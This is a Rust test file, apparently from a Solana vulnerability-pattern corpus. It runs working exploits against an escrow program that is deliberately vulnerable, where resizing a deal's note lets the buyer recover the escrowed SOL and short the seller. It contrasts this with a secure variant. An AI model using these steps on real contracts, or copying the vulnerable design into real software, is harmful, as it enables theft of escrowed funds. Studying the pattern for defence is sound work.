@@ -0,0 +1,366 @@
+// Mollusk tests for Pattern 230
+/// # Pattern 230: State/Escrow Conflation — Mollusk Exploit Tests
+///
+/// Mallory buys from Alice for 1 SOL, through escrow, with a note on the
+/// deal. The arbiter releases the deposit to Alice. Every wallet starts
+/// with 2 SOL.
+///
+/// - Test 1: EXPLOIT — Mallory shortens the note of a vulnerable deal;
+///   realloc refunds the deposit, and Alice is paid nothing.
+/// - Test 2: EXPLOIT — Mallory grows the note of a vulnerable deal for
+///   free; Alice is paid short by the new rent, and Mallory gets it back
+///   on close.
+/// - Test 3: SECURE — the note of a secure deal grows and shrinks during
+///   escrow, Mallory pays and recovers only rent, and Alice is paid 1 SOL.
+/// - Test 4: SANITY — both variants pay Alice 1 SOL when the note doesn't
+///   change, and refuse to close before release.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    rent::Rent,
+};
+use test_harness::{account_discriminator, executable_account, ix_discriminator, Ledger};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("4iZYAxjUHQh3KruU2YHf1gxuMFzaXkgm3QDjonJ3pcz1");
+
+const WALLET: u64 = 2_000_000_000;
+const PRICE: u64 = 1_000_000_000;
+const MAX_NOTE_LEN: usize = 512;
+
+// Error codes
+const NOT_SETTLED: u32 = 6002;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// 8 disc + 32 buyer + 32 seller + 32 arbiter + 8 amount + 1 settled +
+/// 1 bump + 4 + note.
+fn deal_len(note_len: usize) -> usize {
+    118 + note_len
+}
+
+fn deal_rent(note_len: usize) -> u64 {
+    Rent::default().minimum_balance(deal_len(note_len))
+}
+
+/// Serialize a Deal account:
+///   [8 disc][32 buyer][32 seller][32 arbiter][8 amount][1 settled][1 bump]
+///   [4 len][len note]
+fn serialize_deal(
+    buyer: &Pubkey,
+    seller: &Pubkey,
+    arbiter: &Pubkey,
+    settled: bool,
+    bump: u8,
+    note: &[u8],
+) -> Vec<u8> {
+    let mut data = Vec::with_capacity(deal_len(note.len()));
+    data.extend_from_slice(&account_discriminator("Deal"));
+    data.extend_from_slice(buyer.as_ref());
+    data.extend_from_slice(seller.as_ref());
+    data.extend_from_slice(arbiter.as_ref());
+    data.extend_from_slice(&PRICE.to_le_bytes());
+    data.push(settled as u8);
+    data.push(bump);
+    data.extend_from_slice(&(note.len() as u32).to_le_bytes());
+    data.extend_from_slice(note);
+    data
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    deal: Pubkey,
+    deal_bump: u8,
+    escrow: Pubkey,
+    mallory: Pubkey,
+    alice: Pubkey,
+    arbiter: Pubkey,
+    ledger: Ledger,
+}
+
+impl Setup {
+    /// No deal yet: Mallory, Alice, and the arbiter with their wallets.
+    fn new() -> Self {
+        let mollusk = Mollusk::new(&PROGRAM_ID, "state_escrow_conflation");
+        let mallory = Pubkey::new_unique();
+        let alice = Pubkey::new_unique();
+        let arbiter = Pubkey::new_unique();
+        let (deal, deal_bump) =
+            Pubkey::find_program_address(&[b"deal", mallory.as_ref()], &PROGRAM_ID);
+        let (escrow, _) = Pubkey::find_program_address(&[b"escrow", deal.as_ref()], &PROGRAM_ID);
+
+        let ledger = vec![
+            (deal, AccountSharedData::default()),
+            (escrow, AccountSharedData::default()),
+            (mallory, system_account()),
+            (alice, system_account()),
+            (arbiter, system_account()),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ];
+
+        Self {
+            mollusk,
+            deal,
+            deal_bump,
+            escrow,
+            mallory,
+            alice,
+            arbiter,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// open_vulnerable or open_secure by Mallory: PRICE to Alice, with
+    /// `note`.
+    fn open(&self, name: &str, note: &[u8]) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(self.alice.as_ref());
+        data.extend_from_slice(self.arbiter.as_ref());
+        data.extend_from_slice(&PRICE.to_le_bytes());
+        data.extend_from_slice(&(note.len() as u32).to_le_bytes());
+        data.extend_from_slice(note);
+        let mut accounts = vec![AccountMeta::new(self.deal, false)];
+        if name == "open_secure" {
+            accounts.push(AccountMeta::new(self.escrow, false));
+        }
+        accounts.extend([
+            AccountMeta::new(self.mallory, true),
+            AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+        ]);
+        Instruction::new_with_bytes(PROGRAM_ID, &data, accounts)
+    }
+
+    /// release_vulnerable or release_secure, by the arbiter.
+    fn release(&self, name: &str) -> Instruction {
+        let data = ix_discriminator(name).to_vec();
+        let mut accounts = vec![AccountMeta::new(self.deal, false)];
+        if name == "release_secure" {
+            accounts.push(AccountMeta::new(self.escrow, false));
+        }
+        accounts.extend([
+            AccountMeta::new(self.alice, false),
+            AccountMeta::new_readonly(self.arbiter, true),
+        ]);
+        if name == "release_secure" {
+            accounts.push(AccountMeta::new_readonly(
+                solana_sdk::system_program::ID,
+                false,
+            ));
+        }
+        Instruction::new_with_bytes(PROGRAM_ID, &data, accounts)
+    }
+
+    /// set_note by Mallory.
+    fn set_note(&self, note: &[u8]) -> Instruction {
+        let mut data = ix_discriminator("set_note").to_vec();
+        data.extend_from_slice(&(note.len() as u32).to_le_bytes());
+        data.extend_from_slice(note);
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.deal, false),
+                AccountMeta::new(self.mallory, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    /// close by Mallory.
+    fn close(&self) -> Instruction {
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &ix_discriminator("close"),
+            vec![
+                AccountMeta::new(self.deal, false),
+                AccountMeta::new(self.mallory, true),
+            ],
+        )
+    }
+
+    fn lamports(&self, key: &Pubkey) -> u64 {
+        self.ledger.lamports(key)
+    }
+
+    /// Assert the deal holds `note` and `lamports`.
+    fn assert_deal(&self, settled: bool, note: &[u8], lamports: u64) {
+        assert_eq!(
+            self.ledger.data(&self.deal),
+            serialize_deal(
+                &self.mallory,
+                &self.alice,
+                &self.arbiter,
+                settled,
+                self.deal_bump,
+                note
+            )
+        );
+        assert_eq!(self.lamports(&self.deal), lamports);
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_shrink_refunds_escrow_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: Mallory's vulnerable deal holds 1 SOL and a 64-byte note
+    //   Mallory: set_note(empty), after Alice ships
+    //   Arbiter: release_vulnerable
+    //
+    // Expected: all SUCCEED. Shrinking refunds everything above the new
+    //           rent to Mallory: 1 SOL and the 64 bytes' rent. The deal
+    //           still records 1 SOL, but release pays Alice nothing.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (mallory, alice) = (s.mallory, s.alice);
+    let note = [b'n'; 64];
+
+    let ix = s.open("open_vulnerable", &note);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.assert_deal(false, &note, deal_rent(64) + PRICE);
+    assert_eq!(s.lamports(&mallory), WALLET - deal_rent(64) - PRICE);
+
+    let ix = s.set_note(b"");
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.assert_deal(false, b"", deal_rent(0));
+    assert_eq!(s.lamports(&mallory), WALLET - deal_rent(0));
+
+    let ix = s.release("release_vulnerable");
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.assert_deal(true, b"", deal_rent(0));
+    assert_eq!(s.lamports(&alice), WALLET);
+}
+
+#[test]
+fn exploit_grow_spends_escrow_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: Mallory's vulnerable deal holds 1 SOL and an empty note
+    //   Mallory: set_note(512 bytes)
+    //   Arbiter: release_vulnerable
+    //   Mallory: close
+    //
+    // Expected: all SUCCEED. The deal's balance already covers the new
+    //           rent, so growing charges Mallory nothing. Release pays
+    //           Alice 1 SOL less the 512 bytes' rent, and close returns
+    //           that rent to Mallory.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (mallory, alice) = (s.mallory, s.alice);
+    let note = [b'n'; MAX_NOTE_LEN];
+    let grown = deal_rent(MAX_NOTE_LEN) - deal_rent(0);
+
+    let ix = s.open("open_vulnerable", b"");
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+
+    let ix = s.set_note(&note);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.assert_deal(false, &note, deal_rent(0) + PRICE);
+    assert_eq!(s.lamports(&mallory), WALLET - deal_rent(0) - PRICE);
+
+    let ix = s.release("release_vulnerable");
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    assert_eq!(s.lamports(&alice), WALLET + PRICE - grown);
+
+    let ix = s.close();
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    assert_eq!(s.lamports(&s.deal), 0);
+    assert_eq!(s.lamports(&mallory), WALLET - PRICE + grown);
+}
+
+#[test]
+fn secure_resize_during_escrow() {
+    // -----------------------------------------------------------------------
+    // SECURE: Mallory's secure deal has a 64-byte note; its escrow holds
+    //         1 SOL
+    //   Mallory: set_note(512 bytes), then set_note(empty)
+    //   Arbiter: release_secure
+    //   Mallory: close
+    //
+    // Expected: all SUCCEED. Growing charges Mallory the added rent and
+    //           shrinking refunds only rent; the escrow holds 1 SOL
+    //           throughout. Alice is paid 1 SOL, and Mallory is down
+    //           exactly 1 SOL.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (mallory, alice, escrow) = (s.mallory, s.alice, s.escrow);
+    let note = [b'n'; 64];
+
+    let ix = s.open("open_secure", &note);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.assert_deal(false, &note, deal_rent(64));
+    assert_eq!(s.lamports(&escrow), PRICE);
+
+    let long = [b'n'; MAX_NOTE_LEN];
+    let ix = s.set_note(&long);
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.assert_deal(false, &long, deal_rent(MAX_NOTE_LEN));
+    assert_eq!(s.lamports(&escrow), PRICE);
+    assert_eq!(
+        s.lamports(&mallory),
+        WALLET - deal_rent(MAX_NOTE_LEN) - PRICE
+    );
+
+    let ix = s.set_note(b"");
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    s.assert_deal(false, b"", deal_rent(0));
+    assert_eq!(s.lamports(&escrow), PRICE);
+    assert_eq!(s.lamports(&mallory), WALLET - deal_rent(0) - PRICE);
+
+    let ix = s.release("release_secure");
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    assert_eq!(s.lamports(&escrow), 0);
+    assert_eq!(s.lamports(&alice), WALLET + PRICE);
+
+    let ix = s.close();
+    s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+    assert_eq!(s.lamports(&mallory), WALLET - PRICE);
+}
+
+#[test]
+fn sanity_release_and_close() {
+    // -----------------------------------------------------------------------
+    // SANITY: A deal of each variant with a 64-byte note that never changes
+    //   Mallory: close, before release
+    //   Arbiter: release
+    //   Mallory: close
+    //
+    // Expected: the first close FAILS with NotSettled (6002). Release pays
+    //           Alice 1 SOL, and close returns the deal's rent to Mallory.
+    // -----------------------------------------------------------------------
+    for (open, release) in [
+        ("open_vulnerable", "release_vulnerable"),
+        ("open_secure", "release_secure"),
+    ] {
+        let mut s = Setup::new();
+        let (mallory, alice) = (s.mallory, s.alice);
+        let note = [b'n'; 64];
+
+        let ix = s.open(open, &note);
+        s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+        let ix = s.close();
+        s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(NOT_SETTLED))]);
+
+        let ix = s.release(release);
+        s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+        s.assert_deal(true, &note, deal_rent(64));
+        assert_eq!(s.lamports(&alice), WALLET + PRICE);
+
+        let ix = s.close();
+        s.ledger.step(&s.mollusk, &ix, &[Check::success()]);
+        assert_eq!(s.lamports(&mallory), WALLET - PRICE);
+    }
+}